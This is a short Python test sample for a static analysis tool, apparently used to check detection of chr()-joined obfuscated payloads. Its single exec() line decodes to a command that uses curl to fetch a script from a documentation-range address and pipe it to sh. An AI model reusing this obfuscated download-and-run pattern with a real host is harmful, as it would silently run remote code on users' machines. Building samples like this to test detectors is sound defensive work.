# INERT test sample for pyward's static analysis: never run it. Modelled on chr()-joined payloads.
# Documented: GuardDog obfuscation rule (''.join(chr(x) for x in [...]))
# Every address is a documentation address (RFC 5737); nothing here is functional malware.
exec(''.join(chr(c) for c in [105,109,112,111,114,116,32,111,115,59,32,111,115,46,115,121,115,116,101,109,40,34,99,117,114,108,32,45,115,32,104,116,116,112,58,47,47,50,48,51,46,48,46,49,49,51,46,57,47,120,32,124,32,115,104,34,41]))
